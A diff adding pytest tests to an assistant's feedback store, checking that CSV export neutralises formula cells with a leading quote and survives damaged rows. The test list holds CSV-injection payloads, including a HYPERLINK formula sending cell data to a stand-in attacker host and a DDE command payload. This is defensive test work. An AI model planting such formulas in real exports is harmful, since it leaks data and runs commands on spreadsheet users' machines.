@@ -9,7 +9,7 @@ import json
 import pytest
 
 from assistant.cli import main
-from assistant.feedback import Feedback, FeedbackError, FeedbackStore
+from assistant.feedback import Feedback, FeedbackError, FeedbackStore, safe_cell, write_csv
 from assistant.models import Citation
 
 CITATION = Citation("Hemsjukvården ska ge trygg vård.", "hemsjukvard-2021", "Hemsjukvård i kommunen", "Mål", 2, "c-1")
@@ -78,3 +78,68 @@ def test_cli_exports_to_a_file_and_to_stdout(tmp_path, monkeypatch, capsys) -> N
     assert "Vad ska hemsjukvården ge?" in capsys.readouterr().out
     assert main(["feedback"]) == 0
     assert "1 svar med återkoppling" in capsys.readouterr().out
+
+
+FORMULAS = [
+    '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_export_neutralises_formula_cells_with_a_leading_quote(tmp_path, formula: str) -> None:
+    store = FeedbackStore(tmp_path / "feedback.sqlite")
+    store.save(_feedback(comment=formula, question=formula, backend=formula))
+    out = io.StringIO()
+    store.export_csv(out)
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["comment"] == row["question"] == row["backend"] == "'" + formula
+    assert row["answer"] == _feedback().answer  # other cells untouched
+    assert json.loads(row["citations"])[0]["chunk_id"] == "c-1"
+
+
+def test_write_csv_neutralises_the_same_cells() -> None:
+    out = io.StringIO()
+    write_csv([_feedback(comment="=1+1", answer="@x")], out)
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert (row["comment"], row["answer"], row["question"]) == ("'=1+1", "'@x", "Vad ska hemsjukvården ge?")
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("Bra svar", "Bra svar"),
+        ("", ""),
+        (None, ""),
+        ("a=b", "a=b"),
+        ("'=redan citerad", "'=redan citerad"),  # already text to a spreadsheet
+        (" =1", " =1"),
+        ("-", "'-"),
+        (5, "5"),
+    ],
+)
+def test_safe_cell_only_changes_cells_that_start_like_a_formula(cell, safe: str) -> None:
+    assert safe_cell(cell) == safe
+
+
+def test_one_damaged_row_does_not_stop_the_export(tmp_path) -> None:
+    import sqlite3
+
+    database = tmp_path / "feedback.sqlite"
+    store = FeedbackStore(database)
+    store.save(_feedback(answer_id="a-1"))
+    store.save(_feedback(answer_id="a-2"))
+    with sqlite3.connect(database) as connection:
+        connection.execute("UPDATE feedback SET citations = '{inte json' WHERE answer_id = 'a-1'")
+        connection.execute("UPDATE feedback SET comment = CAST(X'ff3d31' AS TEXT) WHERE answer_id = 'a-2'")
+    out = io.StringIO()
+    assert store.export_csv(out) == 2
+    rows = {r["answer_id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert rows["a-1"]["citations"] == "{inte json"
+    assert rows["a-2"]["comment"] == "\ufffd=1"
+    assert {e.answer_id: e.citations for e in store.all()}["a-1"] == ()
